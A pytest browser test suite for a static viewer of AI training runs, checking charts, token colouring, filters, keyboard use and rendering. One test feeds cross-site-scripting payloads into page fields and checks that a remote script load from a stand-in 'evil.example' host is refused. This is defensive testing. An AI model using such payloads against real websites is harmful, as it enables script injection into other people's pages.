"""The pages in a real browser, opened as files: what a reader sees, clicks and types, and what attacks achieve."""

import re
import threading
import time

import numpy as np
import pytest

from megatron_prime.viewer.server import ViewServer
from megatron_prime.viewer.site import Site
from tests.support import deadlines
from tests.support.chromium import browser, folder_address, watched_page
from tests.support.viewed_runs import (
    DIALOGUE,
    REJECTED,
    dialogue_row,
    row,
    write_metrics,
    write_run,
    write_step,
)

pytestmark = pytest.mark.slow

ATTACKS = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "\u2028document.title='owned'\u2029//",
    "\"><svg/onload=document.title='owned'>",
    "javascript:document.title='owned' {{7*7}} ${7*7} </textarea></title>",
)


@pytest.fixture(scope="module")
def chromium():
    with browser() as started:
        yield started


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """Pages of two runs of realistic shape."""
    folder = tmp_path_factory.mktemp("viewer")
    runs = [write_run(folder / name / "prime", seed=seed) for seed, name in enumerate(("a", "b"))]
    Site(runs, folder / "out").update()
    return folder_address(folder / "out")


@pytest.fixture
def open_page(chromium, site):
    """Open a page of the site; every error on it fails the test."""
    pages = []

    def opened(name, **settings):
        context = watched_page(chromium, site, **settings)
        page = context.__enter__()
        pages.append(context)
        page.goto(site + name)
        return page

    yield opened
    for context in pages:
        context.__exit__(None, None, None)


def until(page, expression):
    """Wait until a JavaScript expression is true. Playwright's own wait needs eval, which the pages forbid."""
    deadline = time.monotonic() + deadlines.seconds(20)
    while not page.evaluate(expression):
        assert time.monotonic() < deadline, expression
        page.wait_for_timeout(50)


def step_page(page):
    """Wait until the first group is drawn."""
    page.wait_for_selector("#g0 .response .text span")
    return page


def shown_groups(page):
    return page.eval_on_selector_all("article.group:not([hidden])", "nodes => nodes.map(node => node.id)")


def test_the_curves_overlay_runs_and_give_the_values_of_a_step(open_page):
    page = open_page("index.html")
    page.wait_for_selector("figure[data-panel=accuracy] path.main")
    assert page.locator("figure[data-panel=eval] path.band").count() == 2
    assert page.locator("figure[data-panel=accuracy] path.main").count() == 4
    assert page.locator("figure[data-panel=time]").count() == 2, "phases are stacked for each run"
    chart = page.locator("figure[data-panel=accuracy] .chart-box")
    box = chart.bounding_box()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 60)
    tip = page.locator("figure[data-panel=accuracy] .chart-tip").inner_text()
    assert re.search(r"step (9|10|11)\b", tip)
    assert tip.count("%") == 4
    assert page.locator("line.cursor[visibility=visible]").count() > 10, "all charts show the step"
    page.keyboard.press("s")
    assert page.locator("#smoothing-value").inner_text() == "0.60"
    assert page.locator("figure[data-panel=accuracy] path.raw").count() == 4
    page.select_option("#metric", "prm/ce")
    assert "cross-entropy" in page.locator("figure[data-panel=any] .question").inner_text().lower()
    assert page.locator("#final tbody tr").count() > 20


def test_tokens_are_coloured_by_each_quantity_and_explained(open_page):
    page = step_page(open_page("run0/step-00000008.html"))
    captions = set()
    for number, label in enumerate(
        ("process reward", "advantage", "log-ratio", "entropy", "train/rollout gap"), start=1
    ):
        page.keyboard.press(str(number))
        assert page.locator("#colours input:checked + span").inner_text() == label
        ramp = page.locator("#legend .ramp i").count()
        assert ramp == (11 if label == "entropy" else 21)
        assert page.locator("#g0 .text [class*=plus-], #g0 .text [class*=strong-]").count() > 5
        captions.add(page.locator("#caption").inner_text())
    assert len(captions) == 5
    page.locator("#colours label", has_text="process reward").click()
    assert (
        "Blue tokens raised the PRM's belief that the response is right"
        in page.locator("#caption").inner_text()
    )
    assert "β is 0.05" in page.locator("#caption").inner_text()


def test_a_token_shows_all_its_figures_to_mouse_and_keyboard(open_page):
    page = step_page(open_page("run0/step-00000008.html"))
    page.locator("#g0 .response .text span").first.hover()
    tip = page.locator("#tip")
    tip.wait_for(state="visible")
    for words in (
        "process reward",
        "advantage",
        "log-ratio",
        "entropy",
        "gap",
        "policy",
        "rollout engine",
        "PRM",
        "reference",
    ):
        assert words in tip.inner_text()
    assert "1 of 40" in tip.inner_text() or "token\t1 of" in tip.inner_text()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowRight")
    until(page, "document.querySelector('#tip').innerText.includes('2 of')")
    page.keyboard.press("Shift+ArrowRight")
    until(
        page,
        r"/reasoning step\s+2 of/.test(document.querySelector('#tip').innerText)",
    )
    page.keyboard.press("r")
    assert page.evaluate("document.activeElement.className").startswith("response")


def test_the_credit_of_a_response_is_the_sum_of_its_bars(open_page):
    page = step_page(open_page("run0/step-00000008.html"))
    bars = page.eval_on_selector(
        "#g0 .response", "node => [...node.querySelectorAll('.bar-cell small')].map(each => each.textContent)"
    )
    credit = page.locator("#g0 .response .credit b").first.inner_text()
    numbers = [float(text.replace("\u2212", "-")) for text in (*bars, credit)]
    assert len(bars) >= 4
    assert sum(numbers[:-1]) == pytest.approx(numbers[-1], abs=0.01)
    assert page.locator("#g0 .response .credit-line").count() == 4


def test_filters_search_and_orders(open_page):
    page = step_page(open_page("run0/step-00000008.html"))
    everything = [f"g{number}" for number in range(8)]
    assert shown_groups(page) == everything
    for control, value, expected in (
        ("#outcome", "right", [0, 1, 2, 4, 5, 6, 7]),
        ("#outcome", "wrong", [0, 1, 2, 3, 4, 5, 7]),
        ("#outcome", "mixed", [0, 1, 2, 4, 5, 7]),
        ("#source", "=math", [1, 3, 5, 7]),
        ("#verdict", "rejected", [3, 6]),
        ("#verdict", "kept", [0, 1, 2, 4, 5, 7]),
    ):
        page.select_option(control, value)
        assert shown_groups(page) == [f"g{number}" for number in expected], (control, value)
        assert page.locator("#count").inner_text() == f"{len(expected)} of 8 groups"
        page.select_option(control, "")
    page.check("#truncated")
    assert shown_groups(page) == ["g1", "g6"]
    page.uncheck("#truncated")
    page.keyboard.press("Escape")
    page.select_option("#outcome", "right")
    assert page.locator("#g0 .response.dim").count() == 2
    page.select_option("#outcome", "")
    page.fill("#search", "PROBLEM 5")
    until(page, "document.querySelector('#count').textContent === '1 of 8 groups'")
    assert shown_groups(page) == ["g5"]
    page.fill("#search", "should check")
    until(page, "document.querySelectorAll('#g0 .hit').length > 1")
    page.fill("#search", "")
    until(page, "document.querySelector('#count').textContent === '8 of 8 groups'")
    numbers = (
        "[...node.querySelectorAll('.credit b')].map(each => Number(each.textContent.replace('\u2212', '-')))"
    )
    credit_of = f"nodes => nodes.map(node => {numbers})"
    page.select_option("#order", "highest")
    found = page.eval_on_selector_all("article.group", credit_of)
    best = [max(values) for values in found if values]
    assert len(best) >= 2
    assert best == sorted(best, reverse=True)
    page.select_option("#order", "")
    assert shown_groups(page) == everything


def test_the_keyboard_alone_reaches_everything(open_page):
    page = step_page(open_page("run0/step-00000008.html"))
    page.keyboard.press("?")
    assert page.locator("#keys").is_visible()
    assert "next, previous group" in page.locator("#keys").inner_text()
    page.keyboard.press("Escape")
    assert not page.locator("#keys").is_visible()
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.id") == "g0"
    page.keyboard.press("j")
    page.keyboard.press("j")
    assert page.evaluate("document.activeElement.id") == "g2"
    page.keyboard.press("k")
    assert page.evaluate("document.activeElement.id") == "g1"
    page.keyboard.press("o")
    assert page.locator("#outcome").input_value() == "right"
    page.keyboard.press("/")
    page.keyboard.type("d?j1")
    assert page.locator("#search").input_value() == "d?j1", "a field takes every letter"
    page.keyboard.press("Escape")
    page.keyboard.press("n")
    page.wait_for_url("**/step-00000012.html")
    step_page(page)
    page.keyboard.press("n")
    page.keyboard.press("p")
    page.wait_for_url("**/step-00000008.html")
    page.select_option("#steps", "../run0/step-00000004.html")
    page.wait_for_url("**/step-00000004.html")


def test_dark_and_light_by_the_system_and_by_a_switch_that_stays(open_page):
    ground = "getComputedStyle(document.body).backgroundColor"
    dark, light = open_page("index.html", color_scheme="dark"), open_page("index.html", color_scheme="light")
    colours = {"dark": dark.evaluate(ground), "light": light.evaluate(ground)}
    assert colours == {"dark": "rgb(16, 21, 27)", "light": "rgb(246, 247, 249)"}
    light.keyboard.press("d")
    assert light.evaluate(ground) == colours["dark"]
    light.click("#theme")
    assert light.evaluate(ground) == colours["light"]


def test_a_problem_leads_to_its_group(open_page):
    page = open_page("run0/problems.html")
    page.locator("#unstable .cell").nth(1).click()
    page.wait_for_url("**/step-00000008.html#g2")
    until(page, "document.activeElement.id === 'g2'")


def test_a_narrow_window_needs_no_sideways_scrolling(open_page):
    for name in ("index.html", "run0/step-00000008.html", "run0/problems.html"):
        page = open_page(name, viewport={"width": 390, "height": 800})
        page.wait_for_timeout(200)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, name


@pytest.mark.parametrize("is_served", [False, True], ids=["file", "served"])
def test_texts_of_a_run_are_never_code(chromium, tmp_path, is_served):
    generator = np.random.default_rng(0)
    run = tmp_path / "<img src=x onerror=alert(1)>"
    records = [
        f'{{"step": 1, "rollout/accuracy_by_source/{name}": 0.5}}\n'
        for name in ("<script>alert(1)</script>",)
    ]
    run.mkdir()
    (run / "metrics.jsonl").write_text("".join(records))
    for step in (1, 2):
        rows = [
            row(
                attack,
                generator,
                group,
                prompt=attack,
                source=attack,
                ground_truth=attack,
                reason=attack,
                finish_reason=attack,
                outcome_reward=float(step - 1),
                filter=attack,
            )
            for group, attack in enumerate(ATTACKS)
        ]
        write_step(run, step, rows)
    pages = Site([run], tmp_path / "out")
    pages.update()
    with ViewServer(pages) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        base = server.url.removesuffix("index.html") if is_served else folder_address(tmp_path / "out")
        try:
            with watched_page(chromium, base) as page:
                for name in ("index.html", "run0/problems.html", "run0/step-00000001.html"):
                    page.goto(base + name)
                    page.wait_for_timeout(300)
                    assert "owned" not in page.title()
                    assert page.locator("img, body script, iframe, object, svg[onload]").count() == 0
                for group, attack in enumerate(ATTACKS):
                    page.locator(f"#g{group}").scroll_into_view_if_needed()
                    page.locator(f"#g{group} .response .text span").first.wait_for(state="attached")
                    shown = page.locator(f"#g{group} .response .text").evaluate_all(
                        "all => all.map(each => each.textContent).join('')"
                    )
                    assert shown == attack
                    assert page.locator(f"#g{group} .prompt").evaluate("each => each.textContent") == attack
                page.locator("#g0 .response .text span").first.hover()
                page.locator("#tip").wait_for(state="visible")
                with pytest.raises(Exception, match="no data file"):
                    page.evaluate("load('https://evil.example/x.js', 'x')")
            plain = chromium.new_page()  # whose violations are no faults of the test
            plain.goto(base + "index.html")
            with pytest.raises(Exception, match="Trusted"):
                plain.evaluate("document.body.innerHTML = '<b>x</b>'")
            plain.close()
        finally:
            server.shutdown()
            thread.join()


def test_replies_stand_apart_and_turns_have_their_rewards(chromium, tmp_path):
    generator = np.random.default_rng(1)
    rows = [dialogue_row(generator, sample=sample, reward=float(sample % 2)) for sample in range(2)]
    rows.append(row("One turn.\nIt has no reply.", generator, sample=2))
    write_step(tmp_path, 1, rows)
    Site([tmp_path], tmp_path / "out").update()
    with watched_page(chromium, folder_address(tmp_path / "out")) as page:
        page.goto(folder_address(tmp_path / "out") + "run0/step-00000001.html")
        first = step_page(page).locator("#g0 .response").first
        assert first.locator("header .badge").inner_text() == "3 turns"
        assert "Shaded text was written by the environment" in page.locator("#caption").inner_text()
        replies = first.locator(".reply .text")
        assert [" ".join(text.split()) for text in replies.all_text_contents()] == [
            " ".join(reply.split()) for _, reply in DIALOGUE if reply
        ]
        grounds = replies.evaluate_all("nodes => nodes.map(node => getComputedStyle(node).backgroundColor)")
        assert "rgba(0, 0, 0, 0)" not in grounds
        headings = first.locator(".rstep.turn").all_inner_texts()
        assert [re.sub(r"\s+", " ", text).split("turn ")[1] for text in headings] == [
            "1 of 3",
            "2 of 3, environment \u22120.25",
            "3 of 3",
        ]
        titles = first.locator(".rstep.turn .bar-cell").evaluate_all("nodes => nodes.map(node => node.title)")
        shown = [float(title.rsplit(" ", 1)[1].replace("\u2212", "-")) for title in titles]
        starts = [0, *rows[0]["turn_ends"][:-1]]
        sums = [
            sum(rows[0]["process_rewards"][start:end])
            for start, end in zip(starts, rows[0]["turn_ends"], strict=True)
        ]
        assert shown == pytest.approx(sums, abs=2e-3)
        marks = first.locator(".text [data-mark]:not(i)").evaluate_all(
            "nodes => nodes.map(node => node.dataset.mark)"
        )
        assert marks == ["■", "▫", "■", "▫", "■"]
        coloured = ".reply .text [class*=plus-], .reply .text [class*=minus-]"
        assert first.locator(coloured).count() > 5
        replies.first.locator("span").nth(2).hover()
        words = page.locator("#tip").inner_text()
        assert "the environment" in words and "reply to 1 of 3" in words and "process reward" in words
        assert "advantage" not in words and "rollout engine" not in words and "not trained on" in words
        page.keyboard.press("2")
        assert page.locator("#g0 " + coloured).count() == 0
        assert page.locator("#g0 .left-out").count() == 0
        first.locator(".text span").first.hover()
        assert "the policy" in page.locator("#tip").inner_text()
        assert page.locator("#g0 .response").nth(2).locator(".turn, .reply").count() == 0


def test_right_to_left_text_and_emoji(chromium, tmp_path):
    generator = np.random.default_rng(0)
    text = "התשובה היא 18 👩‍👩‍👧 כי"
    ends = [6, 10, 13, 15, 15, 15, *range(16, len(text) + 1)]
    count = len(ends)
    values = {name: generator.normal(size=count) for name in ("process_rewards", "advantages", "entropy")}
    logprobs = {f"{name}_logprobs": [-0.5] * count for name in ("policy", "rollout", "prm", "ref")}
    layout = {
        "token_ends": ends,
        "step_ends": [count],
        "response_token_ids": list(range(count)),
        "mask": [True] * (count - 1) + [False],
    }
    write_metrics(tmp_path / "run", num_steps=1)
    write_step(tmp_path / "run", 1, [row(text, generator, prompt=text, **values, **logprobs, **layout)])
    Site([tmp_path / "run"], tmp_path / "out").update()
    base = folder_address(tmp_path / "out")
    with watched_page(chromium, base) as page:
        page.goto(base + "run0/step-00000001.html")
        step_page(page)
        spans = page.locator("#g0 .text span").all_text_contents()
        assert "".join(spans) == text
        assert spans[:6] == [text[:6], text[6:10], text[10:13], text[13:15], "", ""]
        assert page.locator("#g0 .text").evaluate("each => getComputedStyle(each).direction") == "rtl"
        assert page.locator("#g0 .prompt").evaluate("each => getComputedStyle(each).direction") == "rtl"
        assert page.locator("#g0 .text .left-out").count() == 1


def test_a_long_response_is_drawn_as_the_reader_scrolls_in_it(chromium, tmp_path):
    text = "".join(f"Line {number} of the reasoning.\n" for number in range(400))
    write_step(tmp_path / "run", 1, [row(text, np.random.default_rng(0))])
    Site([tmp_path / "run"], tmp_path / "out").update()
    base = folder_address(tmp_path / "out")
    with watched_page(chromium, base) as page:
        page.goto(base + "run0/step-00000001.html")
        step_page(page)
        assert page.locator("#g0 .text span").count() < 1000
        page.locator("#g0 .steps").evaluate("each => { each.scrollTop = each.scrollHeight; }")
        until(page, "document.querySelector('#g0 .steps').innerText.includes('Line 399 of')")
        page.locator("#g0 .response").focus()
        for _ in range(2):
            page.keyboard.press("ArrowRight")
        page.keyboard.press("Shift+ArrowRight")
        until(page, "/reasoning step\\s+2 of 400/.test(document.querySelector('#tip').innerText)")


def test_a_long_reasoning_step_is_drawn_in_pieces_and_empty_responses_are_shown(chromium, tmp_path):
    generator = np.random.default_rng(0)
    lists = ("response_token_ids", "token_ends", "step_ends", "rollout_logprobs", *REJECTED)
    empty = row("", generator, sample=2, reward=None) | {name: [] for name in lists} | {"filter": None}
    rows = [row("word " * 20_000, generator), row("x" * 9000, generator, sample=1) | REJECTED, empty]
    write_step(tmp_path / "run", 1, rows)
    write_step(tmp_path / "run", 2, [])
    Site([tmp_path / "run"], tmp_path / "out").update()
    base = folder_address(tmp_path / "out")
    with watched_page(chromium, base) as page:
        page.goto(base + "run0/step-00000001.html")
        step_page(page)
        assert page.locator("#g0 .text span").count() < 1500
        assert "an empty response" in page.locator("#g0 .response").nth(2).inner_text()
        assert page.locator("#g0 .response").first.locator(".bar-cell small").count() == 1
        page.locator("#g0 .steps").first.evaluate("each => { each.scrollTop = each.scrollHeight; }")
        # The token without text that ends the response.
        page.wait_for_selector("#g0 .response:first-child span[data-mark='■']", state="attached")
        until(page, "document.querySelectorAll('#g0 .text span').length < 1500")
        page.keyboard.press("2")
        page.fill("#search", "word w")
        until(page, "document.querySelectorAll('#g0 .hit').length > 100")
        page.goto(base + "run0/step-00000002.html")
        until(page, "document.querySelector('#summary').textContent.startsWith('0 groups')")


def test_thousands_of_records_are_drawn_with_their_extremes(chromium, tmp_path):
    values = [0.5] * 10_000
    values[7_777] = 40.0
    lines = (f'{{"step": {step}, "prm/ce": {value}}}\n' for step, value in enumerate(values))
    (tmp_path / "metrics.jsonl").write_text("".join(lines))
    Site([tmp_path], tmp_path / "out").update()
    base = folder_address(tmp_path / "out")
    with watched_page(chromium, base) as page:
        page.goto(base + "index.html")
        page.wait_for_selector("figure[data-panel=prm_loss] path.raw", state="attached")
        line = page.locator("figure[data-panel=prm_loss] path.raw").get_attribute("d")
        assert line.count("L") < 3000
        heights = [float(point.split(" ")[1]) for point in re.split("[ML]", line)[1:]]
        assert min(heights) < max(heights) - 150


def test_groups_far_from_the_window_are_not_drawn(chromium, tmp_path):
    """A page of many groups holds the tokens of a few, so that it opens and scrolls at the same speed."""
    generator = np.random.default_rng(0)
    text = "word " * 400
    rows = [row(text, generator, group, sample) for group in range(40) for sample in range(2)]
    write_step(tmp_path / "run", 1, rows)
    Site([tmp_path / "run"], tmp_path / "out").update()
    base = folder_address(tmp_path / "out")
    with watched_page(chromium, base) as page:
        page.goto(base + "run0/step-00000001.html")
        step_page(page)
        has_tokens = "each => each.querySelector('.text span')"
        drawn = f"[...document.querySelectorAll('article')].filter({has_tokens}).map(each => each.id)"
        first = page.evaluate(drawn)
        assert "g0" in first
        assert len(first) < 20
        page.goto(base + "run0/step-00000001.html#g39")
        page.wait_for_selector("#g39 .text span")
        until(page, "!document.querySelector('#g0 .text span')")
        assert len(page.evaluate(drawn)) < 20
